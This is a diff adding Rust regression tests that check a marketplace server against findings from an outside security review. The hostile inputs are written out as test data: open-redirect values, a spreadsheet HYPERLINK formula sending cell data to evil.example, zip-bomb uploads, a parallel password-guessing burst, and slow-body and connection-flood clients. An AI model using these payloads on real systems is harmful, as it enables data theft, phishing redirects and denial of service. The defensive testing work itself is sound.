@@ -1,0 +1,396 @@
+//! The outside review's findings, each reproduced: hostile spreadsheets, password hashing on
+//! demand, a raced and hijacked sign-in throttle, unbounded metrics labels, slow bodies, open
+//! redirects, formulas in exports and non-JSON API errors.
+
+use crate::helpers::{spawn_app_with, TestApp, DEMO_PASSWORD};
+use crate::on_both_backends;
+use emall_server::tabular::hostile;
+use reqwest::StatusCode;
+use serde_json::{json, Value};
+use std::io::{Read, Write};
+use std::time::{Duration, Instant};
+
+on_both_backends!(
+    hostile_spreadsheets_are_refused_by_name_and_the_mall_stays_up,
+    the_sign_in_throttle_cannot_be_raced_or_turned_on_the_owner,
+    invitations_are_checked_before_any_password_is_hashed,
+    sign_in_redirects_stay_on_this_site,
+    every_api_error_is_json_in_the_callers_language,
+    csv_exports_carry_no_live_formulas,
+);
+
+async fn import(
+    app: &TestApp,
+    client: &reqwest::Client,
+    token: &str,
+    body: Vec<u8>,
+) -> (StatusCode, Value) {
+    let r = client
+        .post(app.url("/api/v1/offers/import?dry_run=true"))
+        .header("x-csrf-token", token)
+        .header("accept-language", "en")
+        .body(body)
+        .send()
+        .await
+        .expect("import");
+    let status = r.status();
+    (status, r.json().await.expect("a JSON answer"))
+}
+
+async fn hostile_spreadsheets_are_refused_by_name_and_the_mall_stays_up(app: TestApp) {
+    let (supplier, token) = app.as_user("demo-supplier").await;
+    let cases: [(&str, Vec<u8>, &str); 3] = [
+        (
+            "a cell at XFD1048576",
+            hostile::far_corner(),
+            "more than 10001 rows",
+        ),
+        (
+            "200 MiB of sheet",
+            hostile::bomb(200),
+            "unpacks to more than 32 MB",
+        ),
+        (
+            "a bomb at the upload limit",
+            hostile::bomb(1_900),
+            "unpacks to more than 32 MB",
+        ),
+    ];
+    for (name, file, says) in cases {
+        assert!(file.len() < 5 * 1024 * 1024, "{name}: {} bytes", file.len());
+        let (status, body) = import(&app, &supplier, &token, file).await;
+        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{name}: {body}");
+        let message = body["error"]["fields"]["file"].as_str().unwrap_or_default();
+        assert!(message.contains(says), "{name}: {body}");
+        assert_eq!(
+            app.get("/healthz").await.status(),
+            200,
+            "alive after {name}"
+        );
+    }
+    // Only an admitted supplier imports at all.
+    sqlx::query("UPDATE suppliers SET status = 'pending' WHERE id = (SELECT supplier_id FROM users WHERE username = 'demo-supplier')")
+        .execute(app.db.pool())
+        .await
+        .unwrap();
+    let (status, body) = import(&app, &supplier, &token, b"a,b\n1,2\n".to_vec()).await;
+    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
+    assert!(
+        body.to_string().contains("once the supplier is admitted"),
+        "{body}"
+    );
+}
+
+async fn sign_in(
+    app: &TestApp,
+    client: &reqwest::Client,
+    username: &str,
+    password: &str,
+) -> StatusCode {
+    client
+        .post(app.url("/api/v1/auth/login"))
+        .json(&json!({"username": username, "password": password}))
+        .send()
+        .await
+        .expect("login")
+        .status()
+}
+
+async fn the_sign_in_throttle_cannot_be_raced_or_turned_on_the_owner(app: TestApp) {
+    // The owner has signed in from this browser before: it carries a device cookie.
+    let owner = crate::helpers::client();
+    assert_eq!(
+        sign_in(&app, &owner, "demo-buyer", DEMO_PASSWORD).await,
+        200
+    );
+    // Forty wrong passwords at once, from a stranger.
+    let attacker = crate::helpers::client();
+    let attempts = (0..40).map(|i| {
+        let (app, attacker) = (&app, attacker.clone());
+        async move { sign_in(app, &attacker, "demo-buyer", &format!("wrong-{i}")).await }
+    });
+    let statuses = futures::future::join_all(attempts).await;
+    let checked = statuses
+        .iter()
+        .filter(|s| **s == StatusCode::UNAUTHORIZED)
+        .count();
+    let refused = statuses
+        .iter()
+        .filter(|s| **s == StatusCode::TOO_MANY_REQUESTS)
+        .count();
+    assert!(
+        checked <= 5,
+        "{checked} passwords checked against a limit of 5: {statuses:?}"
+    );
+    assert_eq!(checked + refused, 40, "{statuses:?}");
+    // The stranger is held back, even with the right password...
+    assert_eq!(
+        sign_in(&app, &attacker, "demo-buyer", DEMO_PASSWORD).await,
+        429
+    );
+    // ...but the owner at their usual browser is not, nor anyone else at the same address.
+    assert_eq!(
+        sign_in(&app, &owner, "demo-buyer", DEMO_PASSWORD).await,
+        200
+    );
+    let colleague = crate::helpers::client();
+    assert_eq!(
+        sign_in(&app, &colleague, "demo-approver", DEMO_PASSWORD).await,
+        200
+    );
+    // The count is in the database, for every node.
+    let (attempts,): (i64,) =
+        sqlx::query_as("SELECT attempts FROM throttles WHERE key = 'sign-in:user:demo-buyer'")
+            .fetch_one(app.db.pool())
+            .await
+            .expect("a shared count");
+    assert!(attempts >= 5);
+}
+
+async fn hashes(app: &TestApp) -> u64 {
+    let text = app.get("/metrics").await.text().await.unwrap();
+    text.lines()
+        .find_map(|l| l.strip_prefix("emall_password_hashes_total "))
+        .and_then(|n| n.trim().parse().ok())
+        .expect("the hash counter")
+}
+
+async fn invitations_are_checked_before_any_password_is_hashed(app: TestApp) {
+    let before = hashes(&app).await;
+    let tries = (0..60).map(|i| {
+        let app = &app;
+        async move {
+            app.client
+                .post(app.url(&format!("/api/v1/invitations/{i:064x}/accept")))
+                .json(&json!({"username": format!("stranger{i}"), "password": "Strong@Pass2026"}))
+                .send()
+                .await
+                .expect("accept")
+                .status()
+        }
+    });
+    let statuses = futures::future::join_all(tries).await;
+    assert!(
+        statuses
+            .iter()
+            .all(|s| *s == StatusCode::NOT_FOUND || *s == StatusCode::FORBIDDEN),
+        "{statuses:?}"
+    );
+    assert_eq!(
+        hashes(&app).await,
+        before,
+        "no hash for an invitation that does not exist"
+    );
+}
+
+async fn sign_in_redirects_stay_on_this_site(app: TestApp) {
+    for next in [
+        "/\t/evil.example",
+        "/\n/x",
+        "//evil.example",
+        "/\\evil.example",
+        "https://evil.example",
+        "/%0A/x",
+    ] {
+        let client = crate::helpers::client();
+        let response = client
+            .post(app.url("/login"))
+            .form(&[
+                ("username", "demo-buyer"),
+                ("password", DEMO_PASSWORD),
+                ("next", next),
+            ])
+            .send()
+            .await
+            .expect("login form");
+        assert_eq!(response.status(), StatusCode::SEE_OTHER, "{next:?}");
+        let location = response.headers()["location"].to_str().unwrap().to_string();
+        assert!(
+            location.starts_with('/') && !location.starts_with("//"),
+            "{next:?} → {location:?}"
+        );
+        assert!(
+            !location.contains("evil") && !location.contains('\t'),
+            "{next:?} → {location:?}"
+        );
+    }
+}
+
+async fn every_api_error_is_json_in_the_callers_language(app: TestApp) {
+    let (client, token) = app.as_user("demo-buyer").await;
+    let cases: Vec<(&str, reqwest::RequestBuilder, u16)> = vec![
+        (
+            "malformed JSON",
+            client
+                .post(app.url("/api/v1/checkout"))
+                .header("content-type", "application/json")
+                .body("{"),
+            400,
+        ),
+        (
+            "a field of the wrong type",
+            client
+                .post(app.url("/api/v1/auth/login"))
+                .json(&json!({"username": 7, "password": "x"})),
+            400,
+        ),
+        (
+            "no content type",
+            client
+                .post(app.url("/api/v1/auth/login"))
+                .body(r#"{"username":"a","password":"b"}"#),
+            415,
+        ),
+        (
+            "a method the route lacks",
+            client.delete(app.url("/api/v1/auth/me")),
+            405,
+        ),
+        (
+            "an id that is not a number",
+            client.get(app.url("/api/v1/orders/abc")),
+            400,
+        ),
+        (
+            "no such operation",
+            client.get(app.url("/api/v1/no-such-thing")),
+            404,
+        ),
+        (
+            "a body over the limit",
+            client
+                .post(app.url("/api/v1/auth/login"))
+                .header("content-type", "application/json")
+                .body(vec![b' '; 3 * 1024 * 1024]),
+            413,
+        ),
+    ];
+    for (name, request, status) in cases {
+        let response = request
+            .header("x-csrf-token", &token)
+            .header("accept-language", "en")
+            .send()
+            .await
+            .expect(name);
+        assert_eq!(response.status().as_u16(), status, "{name}");
+        let kind = response
+            .headers()
+            .get("content-type")
+            .map(|v| v.to_str().unwrap().to_string());
+        assert!(
+            kind.as_deref()
+                .is_some_and(|k| k.starts_with("application/json")),
+            "{name}: {kind:?}"
+        );
+        let body: Value = response.json().await.expect(name);
+        let message = body["error"]["message"].as_str().unwrap_or_default();
+        assert!(
+            !message.is_empty() && message.is_ascii(),
+            "{name}: English expected, got {body}"
+        );
+    }
+}
+
+async fn csv_exports_carry_no_live_formulas(app: TestApp) {
+    sqlx::query("UPDATE suppliers SET name = '=HYPERLINK(\"http://evil.example/?\"&A1,\"查看\")' || CAST(id AS TEXT)")
+        .execute(app.db.pool())
+        .await
+        .unwrap();
+    let (regulator, token) = app.as_user("demo-regulator").await;
+    let refreshed = regulator
+        .post(app.url("/api/v1/dashboard/refresh"))
+        .header("x-csrf-token", &token)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(refreshed.status(), 200);
+    let csv = regulator
+        .get(app.url("/api/v1/dashboard/export?table=suppliers&format=csv"))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert!(
+        csv.contains("HYPERLINK"),
+        "the names are exported: {}",
+        &csv[..csv.len().min(600)]
+    );
+    for line in csv.trim_start_matches('\u{feff}').lines() {
+        for cell in line.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(!cell.starts_with(['=', '+', '@']), "a live formula: {line}");
+        }
+    }
+}
+
+/// Slow clients after the hand-off to the application: a body that never comes, one that
+/// trickles, and a client that holds many connections.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn slow_bodies_and_connection_floods_are_cut_off() {
+    let app = spawn_app_with(emall_server::db::Backend::Sqlite, |s| {
+        s.idle_timeout_secs = 2;
+        s.max_connections_per_address = 20;
+    })
+    .await;
+    let addr = app.address.trim_start_matches("http://").to_string();
+    let run = move || {
+        let addr = addr.clone();
+        let connect = move || {
+            let tcp = std::net::TcpStream::connect(&addr).expect("connect");
+            tcp.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
+            tcp
+        };
+        // A head announcing 100 bytes, then silence.
+        let started = Instant::now();
+        let mut silent = connect();
+        silent
+            .write_all(b"POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n")
+            .unwrap();
+        let mut answer = Vec::new();
+        let _ = silent.read_to_end(&mut answer);
+        assert!(
+            started.elapsed() < Duration::from_secs(15),
+            "held {:?}",
+            started.elapsed()
+        );
+        assert!(
+            String::from_utf8_lossy(&answer).starts_with("HTTP/1.1 408"),
+            "{}",
+            String::from_utf8_lossy(&answer)
+        );
+        // A body trickled a byte every half second.
+        let started = Instant::now();
+        let mut trickle = connect();
+        trickle
+            .write_all(b"POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n")
+            .unwrap();
+        for _ in 0..40 {
+            if trickle.write_all(b" ").is_err() {
+                break;
+            }
+            std::thread::sleep(Duration::from_millis(500));
+            if started.elapsed() > Duration::from_secs(15) {
+                break;
+            }
+        }
+        let mut answer = Vec::new();
+        let _ = trickle.read_to_end(&mut answer);
+        assert!(
+            started.elapsed() < Duration::from_secs(15),
+            "held {:?}",
+            started.elapsed()
+        );
+        // Twenty connections from one address are its share; the next is closed at once.
+        let held: Vec<_> = (0..20).map(|_| connect()).collect();
+        std::thread::sleep(Duration::from_millis(200));
+        let mut extra = connect();
+        let _ = extra.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n");
+        let mut buf = [0u8; 64];
+        let n = extra.read(&mut buf).unwrap_or(0);
+        assert_eq!(n, 0, "the connection over the share is closed");
+        drop(held);
+    };
+    tokio::task::spawn_blocking(run).await.unwrap();
+}
